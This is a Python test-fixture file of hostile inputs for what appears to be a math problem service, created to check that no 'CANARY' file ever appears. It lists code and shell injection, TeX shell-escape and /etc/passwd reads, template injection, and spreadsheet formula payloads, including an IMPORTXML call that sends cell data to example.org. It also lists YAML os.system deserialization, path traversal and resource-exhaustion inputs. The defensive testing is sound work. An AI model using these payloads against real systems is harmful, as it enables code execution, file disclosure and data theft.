"""What somebody hostile would send, by class. CANARY stands for a path that must never come to be."""

from __future__ import annotations

from typing import Any

CANARY = "CANARY"

CODE = [
    "__import__('os').system('touch CANARY')",
    "open('CANARY', 'w')",
    "().__class__.__bases__[0].__subclasses__()",
    "(lambda: open('CANARY', 'w'))()",
    "f\"{open('CANARY', 'w')}\"",
    "[open('CANARY', 'w') for x in 'x']",
    "{x: open('CANARY', 'w') for x in (1, 2)}",
    "x.__class__",
    "sin.__globals__",
    "eval(\"open('CANARY', 'w')\")",
    "exec(\"import os; os.system('touch CANARY')\")",
    "compile('1', 'x', 'eval')",
    "print(1)",
    "globals()",
    "getattr(x, 'y')",
    "import os; os.system('touch CANARY')",
    "x if open('CANARY', 'w') else y",
    "(x := open('CANARY', 'w'))",
    "$(touch CANARY)",
    "`touch CANARY`",
    "x; touch CANARY",
    "x | touch CANARY",
    "@property",
    "Symbol('x')",
    "S(\"open('CANARY', 'w')\")",
    "x\nimport os\nos.system('touch CANARY')",
]

HUGE_NUMBERS = [
    "9^9^9",
    "9^9^9^9",
    "(10^9)!",
    "100000!",
    "9!!!!!!!!",
    "x^(10^9)",
    "x^(2^61)",
    "1e999999999",
    "1e-999999999",
    "1/(10^-999999999)",
    "10^(10^10)",
    "2^2^2^2^2^2",
    "(1/2)^(10^12)",
    "(x + 1)^100000",
    "(x + y + 1)^500",
    "((x^1000)^1000)^1000",
    "(9^99999)*x",
    "tan(10^300)",
    "sin(9^9^9)",
    "e^(e^(e^(e^e)))",
    "e^(-e^(e^(e^x)))",
    "sqrt(10^99999999)",
    "log_(10^9)(x^(10^9))",
    "9" * 1990,
    "0." + "0" * 1980 + "1x",
    "x^0." + "3" * 1900,
    "1e999999999 * 1e-999999999 * x",
    "(1 + 1e-9)^(10^12)",
    "8^(1/99999999)",
    "(-8)^(1/99999999)",
    "cosh(10^9)",
    "erf(10^9 x)",
]

DEEP_OR_LONG = [
    "(" * 5000 + "x" + ")" * 5000,
    "(" * 5000,
    ")" * 5000,
    "x" * 100_000,
    "-" * 20_000 + "1",
    "-" * 1990 + "x",
    "|" * 5000,
    "|" * 1999,
    "x^" * 3000 + "x",
    "x^" * 999 + "x",
    "{" * 5000,
    "[[" * 2500,
    r"\frac{1}{" * 1000 + "x" + "}" * 1000,
    r"\frac" * 300 + "x",
    r"\sqrt" * 5000 + "x",
    r"\left(" * 200 + "x",
    "sin " * 450 + "x",
    "(" * 99 + "x" + ")" * 99,
    "sin(" * 90 + "x" + ")" * 90,
    "x^(" * 60 + "x" + ")" * 60,
    "1+" * 999 + "x",
    "1/" * 999 + "x",
    "x/(1 + " * 60 + "x" + ")" * 60,
    "x" + "'" * 1900,
    "x" + "!" * 1900,
    "d/dx " * 350 + "x",
    "x_" * 999 + "x",
    "sqrt(1 + " * 60 + "x" + ")" * 60,
    "*".join(f"(x + {n})" for n in range(1, 60)),
    " " * 100_000,
    "\n" * 100_000,
    "1," * 999 + "1",
]

STRANGE_CHARACTERS = [
    "\u0430 + 1",  # a Cyrillic a
    "s\u0456n(x)",
    "\u0391 + x",  # a Greek capital that looks like A
    "x\u200b^2",
    "x\u200d^2",
    "\u202e2^x",
    "\u2066x\u2069",
    "\ufeffx^2",
    "x\x00y",
    "\x1b[31mx",
    "\x07x",
    "x\u0301",
    "x\u20d7 + 1",
    "\uff12x",
    "\uff58\uff3e\uff12",
    "\u0663x",
    "\U0001d465^2",
    "x\u00ad + 1",
    "\ue000x",
    "\U000e0041x",
    "\ud800x",  # half of a surrogate pair, which no file can hold
    "x\u2028+ 1",
    "x\x85+ 1",
    "\u212f^x",
    "\ufdfa",  # one character that normal forms make eighteen of
    "x" + "\u0301" * 1500,
]

TEX = [
    r"\input{/etc/passwd}",
    r"\input /etc/passwd ",
    r"\include{/etc/passwd}",
    r"\write18{touch CANARY}",
    r"\immediate\write18{touch CANARY}",
    r"\newwrite\w\immediate\openout\w=CANARY\immediate\write\w{x}\immediate\closeout\w",
    r"\csname input\endcsname{/etc/passwd}",
    r"\newread\r\openin\r=/etc/passwd \read\r to\x \x",
    r"\catcode`\%=12",
    r"\def\x{\x\x}\x",
    r"\loop\iftrue\repeat",
    r"^^5cinput{/etc/passwd}",
    r"\directlua{os.execute('touch CANARY')}",
    r"\end{document}",
    r"\begin{verbatim}",
    r"\special{ps: quit}",
    r"\pdfobj{1}",
    r"}}} \relax {{{",
    "$$ x $$",
    "% comment",
    "#1 & ~ _ ^",
    r"\\[99999pt]",
    r"\lstinputlisting{/etc/passwd}",
    r"\usepackage{shellesc}\ShellEscape{touch CANARY}",
    r"\href{run:CANARY}{x}",
    r"\verb|x|",
]

SLOTS = [
    "{{ 7*7 }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.system('touch CANARY') }}",
    "{x}",
    "{0}",
    "{0.__class__}",
    "{expr.__class__.__init__.__globals__}",
    "{x!r:>1000000000}",
    "%1000000000d",
    "%(x)s %s %n",
    "${7*7}",
    "#{7*7}",
    "<< 7*7 >>",
    "<< cycler.__init__.__globals__.os.system('touch CANARY') >>",
    "<% include '/etc/passwd' %>",
    "<% for x in range(10**9) %>x<% endfor %>",
    "<* not a comment *>",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{",
    "}",
    "{{{{{{{{",
    "{expr} {expr} {expr}",
    "{f(x) = expr.__class__}",
    "{print(1)}",
    "{9^9^9}",
]

# what a spreadsheet would run if it stood in a cell
CELLS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","x")',
    '=IMPORTXML(CONCAT("http://example.org?",A1),"//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '"=1+1"',
    ";=1+1",
    "x,=1+1",
    "x\n=1+1,7",
    '=DDE("cmd";"/C calc";"a")',
]

# What a well-meant family looks like; the hostile ones differ in one place.
FAMILY = """\
id: calculus/good
version: 1
license: CC0-1.0
tags: [chain-rule]
task: {do: differentiate, expr: (a*x^2 + 1)^3, wrt: x}
params:
  a: {int: [1, 9]}
text: {en: "Differentiate {f(x) = expr}."}
"""


def _family(old: str, new: str) -> str:
    assert FAMILY.count(old) == 1, old
    return FAMILY.replace(old, new)


YAML = [
    _family("version: 1", "version: !!python/object/apply:os.system ['touch CANARY']"),
    _family("version: 1", "version: !!python/name:os.system 1"),
    _family("version: 1", "version: !!int 1"),
    _family("version: 1", "version: &v 1\npoints: *v"),
    _family("version: 1", "version: 1\nversion: 1"),
    _family("version: 1", "version: no"),
    _family("version: 1", "version: 010"),
    _family("version: 1", "version: 0o10"),
    _family("version: 1", "version: 0x10"),
    _family("version: 1", "version: 1_0"),
    _family("version: 1", "version: 1:30"),
    _family("version: 1", "version: .inf"),
    _family("version: 1", "version: " + "9" * 90_000),
    _family("version: 1", "version: 1\n<<: {points: 3}"),
    _family("version: 1", "version: 1\n? [a, b]\n: 3"),
    _family("version: 1", "version: 1\n--- {}"),
    _family("[chain-rule]", "[" * 5000 + "x" + "]" * 5000),
    _family("[chain-rule]", "{a: " * 3000 + "x" + "}" * 3000),
    _family("{int: [1, 9]}", "{int: [1, 999999999999]}"),
    _family("{int: [1, 9]}", "{int: [-999999999, 999999999]}"),
    _family("{int: [1, 9]}", "{of: [9^9^9, 1e999999999]}"),
    _family("{int: [1, 9]}", "{of: [open('CANARY')]}"),
    _family("(a*x^2 + 1)^3", "(" * 3000),
    _family("{f(x) = expr}", "{open('CANARY')}"),
    _family("  a: {int: [1, 9]}", "".join(f"  a{n}: {{int: [1, 9]}}\n" for n in range(500))),
    "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"{b}: &{b} [{', '.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)),
    "&a [*a]",
    "%YAML 9.9\n---\nx",
    "\x00",
    "\t- x",
    "",
    "- " * 5000,
]

# Whole requests: which door, and what is asked of it.
Request = tuple[str, dict[str, Any]]
ABSURD: list[Request] = [
    ("sheet", {"topic": "chain-rule", "count": 10**9}),
    ("sheet", {"topic": "chain-rule", "count": 0}),
    ("sheet", {"topic": "chain-rule", "count": -1}),
    ("sheet", {"topic": "chain-rule", "count": 1, "seed": 10**5000}),
    ("sheet", {"topic": "chain-rule", "count": 1, "seed": "x" * 1_000_000}),
    ("sheet", {"topic": "chain-rule", "count": 1, "seed": "\0\ud800"}),
    ("sheet", {"topic": "chain-rule", "count": 1, "level": (0, 99)}),
    ("sheet", {"topic": "chain-rule", "count": 1, "level": (5, 1)}),
    ("sheet", {"topic": "chain-rule", "count": 1, "points": 10**9}),
    ("sheet", {"topic": "chain-rule", "count": 1, "paper": "../../etc/passwd"}),
    ("sheet", {"topic": "chain-rule", "count": 1, "language": "../en"}),
    ("sheet", {"topic": "../../../etc/passwd", "count": 1}),
    ("sheet", {"topic": "/etc/passwd", "count": 1}),
    ("sheet", {"topic": "\0", "count": 1}),
    ("sheet", {"topic": "x," * 20_000, "count": 1}),
    ("sheet", {"topic": "x" * 100_000, "count": 1}),
    ("sheet", {"topic": "chain-rule", "count": 1, "banks": ["no/such/folder"]}),
    ("sheet", {"topic": "chain-rule", "count": 1, "banks": ["\0"]}),
    ("problem", {"id": "calculus/power-sum@1#" + "9" * 5000}),
    ("problem", {"id": "../../etc/passwd@1#1"}),
    ("problem", {"id": "@#"}),
    ("problem", {"id": "calculus/power-sum@" + "9" * 5000 + "#1"}),
    ("solve", {"task": "differentiate", "expr": "x^2", "order": 10**9}),
    ("solve", {"task": "differentiate", "expr": "x^2", "order": "9^9^9"}),
    ("solve", {"task": "differentiate", "expr": "x^2", "order": "9" * 5000}),
    ("solve", {"task": "differentiate", "expr": "x^2", "order": -1}),
    ("solve", {"task": "taylor", "expr": "e^x", "wrt": "x", "about": 0, "degree": 10**9}),
    ("solve", {"task": "taylor", "expr": "e^x", "wrt": "x", "about": "9^9^9", "degree": 3}),
    ("solve", {"task": "gradient", "expr": "x^2", "wrt": ["x"] * 10_000}),
    ("solve", {"task": "gradient", "expr": "x^2", "wrt": [f"x_{n}" for n in range(10_000)]}),
    ("solve", {"task": "jacobian", "exprs": ["x"] * 10_000, "wrt": ["x", "y"]}),
    ("solve", {"task": "differentiate", "expr": "x^2", "at": 10**5000}),
    ("solve", {"task": "differentiate", "expr": "x^2", "at": {"x": "9^9^9"}}),
    ("solve", {"task": "differentiate", "expr": {"a": [{}]}}),
    ("solve", {"task": "differentiate", "expr": None, "wrt": 7}),
    ("solve", {"task": "x" * 100_000, "expr": "x"}),
    ("solve", {"task": "../../etc/passwd", "expr": "x"}),
    ("line", {"line": b'{"task": "differentiate", "expr": "x", "order": 1e999999999}'}),
    ("line", {"line": b'{"task": "differentiate", "expr": "x", "order": ' + b"9" * 100_000 + b"}"}),
    ("line", {"line": b'{"id": ' + b"9" * 100_000 + b"}"}),
    ("line", {"line": b'{"id": 1e999999999, "task": "differentiate", "expr": "x"}'}),
    ("line", {"line": b'{"a":' * 50_000}),
    ("line", {"line": b"[" * 500_000}),
    ("line", {"line": b'{"x": NaN}'}),
    ("line", {"line": b"\xff\xfe\x00"}),
    ("line", {"line": b"x" * 1_000_001}),
    ("line", {"line": b'{"id": "\\ud800", "task": "differentiate", "expr": "x"}'}),
    ("line", {"line": b'{"task": "differentiate", "expr": "x^2", "variables": [' + b'"x",' * 50_000 + b'"x"]}'}),
    ("lock", {"text": "[" * 100_000}),
    ("lock", {"text": '{"schema": "derive/lock/1", "id": "", "title": "", "seed": "", "salt": "zz", "items": [7]}'}),
    (
        "lock",
        {
            "text": '{"schema": "derive/lock/1", "id": "", "title": "", "seed": "", "salt": "zz", "items": '
            '[{"problem": "/etc/passwd@1#1"}]}'
        },
    ),
]

TEXTS = {
    "code": CODE,
    "huge numbers": HUGE_NUMBERS,
    "deep or long": DEEP_OR_LONG,
    "strange characters": STRANGE_CHARACTERS,
    "TeX": TEX,
    "slots": SLOTS,
    "cells": CELLS,
}
CLASSES: dict[str, list[Any]] = {**TEXTS, "YAML": YAML, "absurd requests": ABSURD}
